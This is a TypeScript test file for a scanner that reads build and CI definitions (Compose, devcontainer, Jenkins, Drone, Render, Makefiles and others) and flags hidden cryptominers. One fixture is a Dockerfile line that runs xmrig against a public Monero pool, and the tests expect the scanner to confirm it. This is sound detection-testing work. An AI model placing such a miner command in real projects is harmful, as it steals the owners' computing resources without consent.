/**
 * A definition that names a file says what the file is: a `dockerfile:` is one whatever its name. It
 * is judged as such, and one that may be missing is not missed.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { DefinitionReport } from '../src/model/finding.ts';
import { READERS } from '../src/providers/registry.ts';
import { createScanner } from '../src/scanner/scanner.ts';
import { testAddress } from '../src/scanner/wallet/test-addresses.ts';

const scanner = createScanner({ readers: READERS });

type Tree = Readonly<Record<string, string>>;

function scan(path: string, tree: Tree): readonly DefinitionReport[] {
  const reader = scanner.readerFor(path) ?? assert.fail(path);
  return scanner.scanFile(reader, path, tree[path] ?? '', (other) => tree[other] ?? null);
}

const BUILD = 'FROM alpine\nRUN make\n';
const MINER = `FROM alpine\nRUN ./xmrig -o pool.supportxmr.com:443 -u ${testAddress('monero', 1)} -p x\n`;
const DRONE = 'kind: pipeline\nsteps:\n- name: a\n  image: plugins/docker\n';

/** Definitions that build `ci/web.image`. */
const NAMERS: Tree = {
  'docker-compose.yml': 'services:\n  a:\n    build: {context: ci, dockerfile: web.image}\n',
  'codeship-services.yml': 'a:\n  build: {context: ci, dockerfile: web.image}\n',
  'render.yaml': 'services:\n- type: web\n  runtime: docker\n  dockerfilePath: ci/web.image\n',
  '.gitpod.yml': 'image:\n  file: ci/web.image\n',
  '.devcontainer.json': '{"build": {"dockerfile": "ci/web.image"}}',
  '.cirrus.yml': 'a_task:\n  container:\n    dockerfile: ci/web.image\n  x_script: make\n',
  'Jenkinsfile': "pipeline { agent { dockerfile { filename 'ci/web.image' } } }\n",
  '.drone.yml': `${DRONE}  settings: {dockerfile: ci/web.image}\n`,
  'action.yml': 'runs:\n  using: docker\n  image: ci/web.image\n',
};

test('a Dockerfile of any name is read as one where a definition says that it is', () => {
  for (const [path, text] of Object.entries(NAMERS)) {
    const [own, named] = scan(path, { [path]: text, 'ci/web.image': BUILD });
    assert.deepEqual(own?.unchecked, [], path);
    assert.deepEqual([named?.dialect, named?.verdict], ['dockerfile', 'clear'], path);
    const [mining] = scan(path, { [path]: text, 'ci/web.image': MINER });
    assert.equal(mining?.verdict, 'confirmed', path);
  }
});

test('Compose files and scripts of any name are read as what they are said to be', () => {
  const services = { 'ci/all': 'services: {a: {image: b, command: make}}\n' };
  const namers: Tree = {
    '.devcontainer.json': '{"dockerComposeFile": "ci/all"}',
    '.buildkite/pipeline.yml':
      'steps:\n- command: x\n  plugins:\n  - docker-compose#v5.0.0: {run: a, config: ci/all}\n',
    'okteto.yml': 'deploy:\n  compose: ci/all\n',
  };
  for (const [path, text] of Object.entries(namers)) {
    const [own, named] = scan(path, { ...services, [path]: text });
    assert.deepEqual(own?.unchecked, [], path);
    assert.equal(named?.dialect, 'compose', path);
  }
  const layers = { Layerfile: 'FROM vm/ubuntu\nSETUP FILE ci/variables\nRUN make\n' };
  const [own, named] = scan('Layerfile', { ...layers, 'ci/variables': 'A=b\n' });
  assert.deepEqual([own?.unchecked, named?.dialect], [[], 'shell']);
});

test('files that each machine has its own of are read where they are there', () => {
  const path = 'docker-compose.yml';
  const text = 'services: {a: {image: b, env_file: [.env, settings.env]}}\n';
  assert.deepEqual(
    scan(path, { [path]: text }).map(({ verdict }) => verdict),
    ['clear'],
  );
  const [own, named] = scan(path, { [path]: text, '.env': 'A=b c\nPOOL="x"\n' });
  assert.deepEqual([own?.unchecked, named?.path, named?.dialect], [[], '.env', 'shell']);
  const include = { Makefile: '-include own.mk\nall:\n\techo\n' };
  assert.deepEqual(scan('Makefile', include)[0]?.unchecked, []);
  const needed = { Makefile: 'include own.mk\nall:\n\techo\n' };
  assert.match(scan('Makefile', needed)[0]?.unchecked.join() ?? '', /own\.mk, which was not read/);
});
